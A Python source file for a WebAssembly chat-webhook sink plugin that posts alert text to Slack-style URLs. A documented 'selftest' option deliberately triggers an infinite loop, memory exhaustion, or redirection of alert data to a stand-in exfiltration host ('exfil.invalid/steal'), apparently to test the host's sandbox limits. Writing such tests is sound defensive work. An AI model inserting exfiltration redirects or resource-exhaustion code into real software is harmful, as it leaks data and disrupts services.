"""specwatch sink plugin written in Python (componentize-py): posts a plain-text chat
message, {"text": "..."}, to an incoming-webhook URL (Slack, Mattermost, Rocket.Chat and
most chat tools accept this shape).

Built by `build.sh` into python_example.wasm; the WIT is plugins/wit/sink.wit. Besides
`url`, the config takes `selftest` ("loop", "alloc" or "exfil"), which makes the plugin
misbehave on purpose so the test suite can show the host's sandbox limits hold for a
Python plugin too. Never set it in production.
"""

import json

from componentize_py_types import Err
from wit_world import exports
from wit_world.imports import host, types

SCHEMA = json.dumps(
    {
        "type": "object",
        "required": ["url"],
        "properties": {
            "url": {"type": "string", "description": "incoming-webhook URL (a credential)"},
            "selftest": {"enum": ["loop", "alloc", "exfil"]},
        },
        "additionalProperties": False,
    }
)


def parse(config: str) -> dict:
    try:
        c = json.loads(config)
    except ValueError as e:
        raise Err(f"config is not JSON: {e}")
    if not isinstance(c, dict):
        raise Err("config must be a JSON object")
    unknown = sorted(set(c) - {"url", "selftest"})
    if unknown:
        raise Err(f"unknown config key {unknown[0]!r}; allowed: url, selftest")
    url = c.get("url")
    if not isinstance(url, str) or not url.startswith(("https://", "http://")):
        raise Err("`url` must be an http(s) URL")
    if c.get("selftest") not in (None, "loop", "alloc", "exfil"):
        raise Err("`selftest` must be loop, alloc or exfil")
    return c


def text_of(a: types.Alert) -> str:
    badge = {types.Level.BREAKING: "BREAKING", types.Level.WARNING: "WARNING"}.get(a.level, "INFO")
    if a.status == types.Status.RESOLVED:
        badge = "RESOLVED"
    lines = [f"[{badge}] {a.title}", a.summary]
    if a.link:
        lines.append(a.link)
    return "\n".join(lines)


class Sink(exports.Sink):
    def describe(self) -> types.PluginInfo:
        return types.PluginInfo(
            name="python-example",
            version="0.1.0",
            description="Plain-text chat webhook, written in Python (componentize-py)",
            config_schema=SCHEMA,
        )

    def validate_config(self, config: str) -> None:
        parse(config)

    def deliver(self, alert: types.Alert, config: str) -> types.DeliveryReport:
        try:
            c = parse(config)
        except Err as e:
            raise Err(types.DeliveryError_InvalidConfig(e.value))
        selftest = c.get("selftest")
        if selftest == "loop":
            while True:
                pass
        if selftest == "alloc":
            hog = []
            while True:
                hog.append(bytearray(8 * 1024 * 1024))
        url = "https://exfil.invalid/steal" if selftest == "exfil" else c["url"]
        body = json.dumps({"text": text_of(alert)}).encode()
        req = host.HttpRequest(
            method="POST",
            url=url,
            headers=[
                ("content-type", "application/json"),
                ("idempotency-key", alert.idempotency_key),
            ],
            body=body,
        )
        try:
            resp = host.http_send(req)
        except Err as e:
            err = e.value
            if isinstance(err, host.HttpError_Denied):
                raise Err(types.DeliveryError_Permanent(f"denied by the host: {err.value}"))
            what = type(err).__name__.removeprefix("HttpError_").lower()
            raise Err(types.DeliveryError_Transient(types.TransientError(f"http {what}", None)))
        excerpt = bytes(resp.body[:200]).decode("utf-8", "replace")
        if 200 <= resp.status < 300:
            return types.DeliveryReport(status=resp.status, detail=f"posted: {excerpt}")
        if resp.status in (408, 425, 429) or resp.status >= 500:
            raise Err(types.DeliveryError_Transient(types.TransientError(f"{resp.status} {excerpt}", None)))
        raise Err(types.DeliveryError_Permanent(f"{resp.status} {excerpt}"))
